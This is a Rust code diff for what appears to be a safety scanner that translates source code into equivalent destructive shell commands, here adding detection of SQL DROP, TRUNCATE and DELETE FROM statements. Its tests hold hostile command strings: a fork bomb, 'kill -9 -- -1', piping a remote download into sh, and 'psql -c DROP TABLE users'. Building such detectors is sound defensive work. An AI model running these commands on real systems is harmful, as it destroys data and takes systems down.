@@ -48,6 +48,13 @@ pub(super) fn deeds_in(code: &str) -> Vec<String> {
         let joined = joined.map(|path| path.trim_start_matches(['>', ' ']).trim_end_matches([' ', '\'']));
         all.extend(joined.filter(|path| path.starts_with('/')).map(|path| format!("tee {}", quoted(path))));
     }
+    // What code sends to a database: `execute('DROP TABLE x')`. One in memory is gone anyway.
+    let strings = code.split('\'').skip(1).step_by(2).filter(|_| !code.contains(":memory:"));
+    let drops = |text: &&str| {
+        let text = text.trim_start().to_ascii_uppercase();
+        ["DROP ", "TRUNCATE ", "DELETE FROM "].iter().any(|begin| text.starts_with(begin))
+    };
+    all.extend(strings.filter(drops).take(MAX_CALLS).map(|text| format!("psql -c {}", quoted(text))));
     let has = |list: &[&str]| list.iter().any(|text| code.contains(text));
     if has(words::RUIN_CODE_ENDLESS) && has(words::RUIN_CODE_FORKS) && !has(words::RUIN_CODE_ENDS) {
         all.push(FORK_BOMB.to_owned());
@@ -243,6 +250,8 @@ mod tests {
             ("os.kill(-1, 9)", &["kill -9 -- -1"]),
             ("kill 9, -1", &["kill -9 -- -1"]),
             ("Process.kill(9, -1)", &["kill -9 -- -1"]),
+            ("c.execute('DROP TABLE users')", &["psql -c 'DROP TABLE users'"]),
+            ("connect(':memory:').execute('drop table t')", &[]),
             ("fork while fork", &["f() { f | f & }; f"]),
             ("exec(urlopen('http://x').read())", &["curl http://code.invalid | sh"]),
             ("shutil.rmtree(path)", &[]),
